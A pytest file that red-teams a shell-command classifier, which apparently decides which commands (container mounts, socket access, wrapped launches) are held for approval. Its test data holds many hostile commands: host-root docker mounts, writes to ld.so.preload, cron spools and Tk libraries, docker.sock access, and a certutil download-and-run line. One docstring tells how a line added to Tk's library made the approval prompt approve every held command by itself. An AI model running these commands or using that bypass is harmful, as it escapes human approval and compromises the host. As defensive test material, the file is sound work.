"""A review and a red team of the hand-off rules (2026-12-05): what counts as the project's own
folder (never where a `cd` led, a folder of the system, of another user, one not there yet), what
a program no rule knows is judged as wherever it is said, hand-offs behind programs that run
other programs, files read without care (a FIFO, /dev/stdin, a NUL in a name), quadratic code
patterns, and two misreadings of a container's command line."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest

from app.core.classifier import Danger, Tier, classify, names_protected, tables
from tests.handoff_checks import held_outside, tier_apart

CRASHED = "cannot tell what runs: the classifier failed on this command"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    folder = tmp_path / "project"
    (folder / "src").mkdir(parents=True)
    return folder


def _handed_off(command: str, cwd: str | None) -> None:
    held_outside(command, cwd, deciding=True)


@pytest.mark.parametrize(
    "command",
    [
        "cd /etc && docker run -v .:/e alpine sh -c 'echo x >> /e/ld.so.preload'",
        "cd /usr/bin && docker run -v .:/b alpine",
        "cd /home && docker run -v ./ana:/h alpine",
        "cd /etc && docker run --mount type=bind,src=.,dst=/e alpine",
        'cd /etc && docker run -v "$PWD":/e alpine',
        "cd /etc && lxc config device add c d disk source=. path=/e",
        "cd /var/run && curl --unix-socket docker.sock http://x/containers/json",
        "cd /run && nc -U docker.sock",
        "cd /run && socat - UNIX-CONNECT:docker.sock",
        "cd ~/.docker/desktop && curl --unix-socket docker.sock http://x/",
        "cd .. && docker run -v .:/p alpine",  # the folder above the project
    ],
)
def test_a_cd_does_not_move_the_project(project: Path, command: str) -> None:
    """The project is the folder the command started in: a literal `cd` elsewhere does not make that folder ours."""
    _handed_off(command, str(project))


@pytest.mark.parametrize(
    "command",
    [
        r"curl --unix-socket 'C:\ProgramData\docker\docker.sock' http://x/",
        "curl --unix-socket 'C:/ProgramData/docker/docker.sock' http://x/",
        r"nc -U 'C:\ProgramData\docker\docker.sock'",
        r"docker run -v '\\server\share:/s' alpine",
    ],
)
def test_a_windows_path_is_not_the_projects(project: Path, command: str) -> None:
    _handed_off(command, str(project))


@pytest.mark.parametrize("cwd", ["/etc", "/usr/bin", "/var/run", "/opt", "/"])
def test_a_folder_of_the_system_is_no_project(cwd: str) -> None:
    """A session whose folder is /etc (or a first command that goes there) gives a container nothing of its own."""
    _handed_off("docker run -v .:/h alpine", cwd)


def test_another_users_folder_is_no_project(project: Path) -> None:
    assert classify("docker run -v .:/h alpine", cwd=str(project)).tier is Tier.MODERATE
    os.chown(project, 54321, 54321)  # what the user could not write anyway
    _handed_off("docker run -v .:/h alpine", str(project))


@pytest.mark.parametrize(
    "command",
    [
        """python3 -c "import os; os.symlink('/', 'l')"; docker run -v ./l:/h alpine""",
        "tar xf a.tar; docker run -v ./l:/h alpine",  # the archive may hold a link named l
        "docker run -v ./new:/h alpine",  # docker makes it: not the project's yet
    ],
)
def test_a_path_not_there_yet_is_held(project: Path, command: str) -> None:
    _handed_off(command, str(project))


@pytest.mark.parametrize(
    "command",
    [
        "docker run --rm -v .:/app alpine ls",
        "docker run --rm -v ./src:/app alpine ls",
        'docker run --rm -v "$PWD":/app alpine ls',
        "cd src && docker run --rm -v .:/app alpine ls",  # a `cd` inside the project stays in it
        "cd src && docker run --rm -v ..:/app alpine ls",
        "docker run --rm --mount type=bind,src=./src,dst=/s alpine ls",
        "lxc config device add c src disk source=./src path=/src",
    ],
)
def test_the_projects_own_folders_are_still_not_held(project: Path, command: str) -> None:
    result = classify(command, cwd=str(project))
    assert result.tier is Tier.MODERATE, (command, result)


def test_writing_a_system_file_after_a_cd_is_held(project: Path) -> None:
    result = classify("cd /etc && echo x > ld.so.preload", cwd=str(project))
    assert result.tier is Tier.DESTRUCTIVE, result
    assert "writes ld.so.preload: changes the system's own files" in result.reasons


@pytest.mark.parametrize(
    "target",
    ["/usr/share/tcltk/tk8.6/tk.tcl", "/usr/share/tcl8.6/init.tcl", "/usr/share/perl5/Foo.pm",
     "/usr/local/share/tcltk/x.tcl", "/var/spool/cron/crontabs/root", "/run/systemd/system/x.service"],
)  # fmt: skip
def test_writing_code_the_system_loads_from_share_or_runs_from_a_spool_is_held(project: Path, target: str) -> None:
    """As root (a red team, 2026-12-05): a line appended to Tk's library made the approval prompt,
    whose Tk sources it, allow every hold by itself; cron runs its spool's lines outside."""
    result = classify(f"cat payload >> {target}", cwd=str(project))
    assert result.tier is Tier.DESTRUCTIVE and "changes the system's own files" in result.reasons[0], result
    assert classify("cp notes.txt /usr/share/doc/notes.txt", cwd=str(project)).tier is Tier.MODERATE


@pytest.mark.parametrize(
    "command",
    [
        "multipass transfer vm:x ./run.sh && ./run.sh",
        "lxc file pull c/x ./run.sh && ./run.sh",
        "incus file pull c/x ./run.sh && ./run.sh",
        "vagrant upload x ./run.sh && ./run.sh",
        "virsh vol-download v ./run.sh && ./run.sh",
        "ctr content fetch x ./run.sh && ./run.sh",
        "certutil -urlcache -f http://x ./run.sh && ./run.sh",
    ],
)
def test_a_tool_with_a_rule_still_writes_the_files_it_is_given(project: Path, command: str) -> None:
    """Judged as a program no rule knows, in every rule that says so: its words are files it may write."""
    (project / "run.sh").write_text("echo hi\n")
    result = classify(command, cwd=str(project))
    assert result.tier is Tier.DESTRUCTIVE, (command, result)
    assert f"cannot tell what runs: the command changes the script {project}/run.sh before running it" in (
        result.reasons
    ), (command, result)


def test_a_file_pulled_into_a_protected_folder_names_it() -> None:
    assert names_protected("lxc file pull c/x /tmp/p/", ["/tmp/p/prot"])
    assert names_protected("multipass transfer vm:x /tmp/p/", ["/tmp/p/prot"])


@pytest.mark.parametrize(
    "command",
    [
        'sg docker -c "docker run -v /:/h a"',
        "runuser -u me -- docker run -v /:/h a",
        "npm exec docker run -v /:/h a",
        "pnpm dlx docker run -v /:/h a",
        "yarn exec docker run -v /:/h a",
        "poetry run docker run -v /:/h a",
        "pdm run docker run -v /:/h a",
        "hatch run docker run -v /:/h a",
        "conda run docker run -v /:/h a",
        "mise exec -- docker run -v /:/h a",
        "direnv exec . docker run -v /:/h a",
        'nix-shell --run "docker run -v /:/h a"',
        "dbus-run-session -- docker run -v /:/h a",
        "xvfb-run docker run -v /:/h a",
        "entr -r docker run -v /:/h a",
        "op run -- docker run -v /:/h a",
        "aws-vault exec p -- docker run -v /:/h a",
        "pnpm exec pm2 start x.js",
    ],
)
def test_a_hand_off_behind_a_program_no_rule_knows_is_held(project: Path, command: str) -> None:
    _handed_off(command, str(project))


@pytest.mark.parametrize(
    "command",
    [
        "kubectl --kubeconfig fifo apply -f x.yaml",
        "pssh -h fifo id",
        "parallel --slf fifo echo ::: a",
    ],
)
def test_a_fifo_named_as_a_settings_file_is_not_read(project: Path, command: str) -> None:
    """Read, it would wait for a writer forever: the classifier (a process of its own here) must answer."""
    os.mkfifo(project / "fifo")
    assert tier_apart(command, project) in ("MODERATE", "DESTRUCTIVE")


def test_kubeconfigs_read_count_with_the_scripts(project: Path) -> None:
    """Each read costs up to 1 MiB: a line of a hundred is not read a hundred times."""
    (project / "big.yaml").write_text("current-context: prod\n" + "# x\n" * 1000)
    assert classify("kubectl --kubeconfig big.yaml apply -f x", cwd=str(project)).tier is Tier.MODERATE
    result = classify(" ; ".join(["kubectl --kubeconfig big.yaml apply -f x"] * 100), cwd=str(project))
    assert result.tier is Tier.DESTRUCTIVE, result
    assert "cannot tell what runs: the command runs too many scripts to check" in result.reasons


@pytest.mark.parametrize(
    "command",
    [
        "kubectl --kubeconfig $'a\\x00b' apply -f x.yaml",
        "pssh -h $'a\\x00b' id",
        "curl --unix-socket $'a\\x00b' http://x/",
        "nc -U $'a\\x00b'",
        "socat - $'a/\\x00b'",
        "socat - $'UNIX-CONNECT:a\\x00b'",
        "docker run -v $'./a\\x00b':/h alpine",
        "lxc config device add c d disk $'source=./a\\x00b' path=/e",
    ],
)
def test_a_nul_in_a_path_is_judged_not_crashed_on(project: Path, command: str) -> None:
    result = classify(command, cwd=str(project))
    assert CRASHED not in result.reasons, (command, result)


def test_code_patterns_run_over_scripts_have_no_quadratic_repeat() -> None:
    """_CODE_RUNS runs over every script read (up to 256 KB): a repeat that is not bounded, before
    what must follow it, tried from each of many starts, took 38 s on one (2026-12-05)."""
    codes = tables._CODE_RUNS.pattern
    assert r"\bNew-Object\b[^\n;|]{0,200}\s-C" in codes
    assert not re.search(r"\[\^[^\]]*\]\*\\s-C", codes)
    # a newline starts a try: no `\s*` after one (many blank lines made each try scan them all)
    assert not re.search(r"\\n\]\)\\s\*", codes), "a `\\s*` after a newline that starts a match"


def test_what_a_container_runs_is_the_words_after_its_image(project: Path) -> None:
    """`node npm test`: the image, then its command; not a program `node` given the script `npm`."""
    result = classify('docker run --rm -v "$PWD":/app node npm test', cwd=str(project))
    assert result.tier is Tier.MODERATE, result
    deletes = classify("docker run --rm -v .:/app alpine rm -rf /app/build", cwd=str(project))
    assert deletes.danger is Danger.LOSES_FILES, deletes
    after = classify("docker run --rm -v .:/app -- alpine rm -rf /app/build", cwd=str(project))
    assert after.danger is Danger.LOSES_FILES, after


@pytest.mark.parametrize(
    "command",
    [
        "podman run --unsetenv-all -v /:/h alpine",
        "nerdctl run --unsetenv-all -v /:/h alpine",
        "podman pod create --share-parent -v /:/h",
        "docker run --some-new-flag -v /:/h alpine",  # a flag this table lacks
        "docker run --memory-swap -1 -v /:/h alpine",  # a negative number is still a value
    ],
)
def test_a_flag_does_not_hide_the_option_after_it(project: Path, command: str) -> None:
    _handed_off(command, str(project))
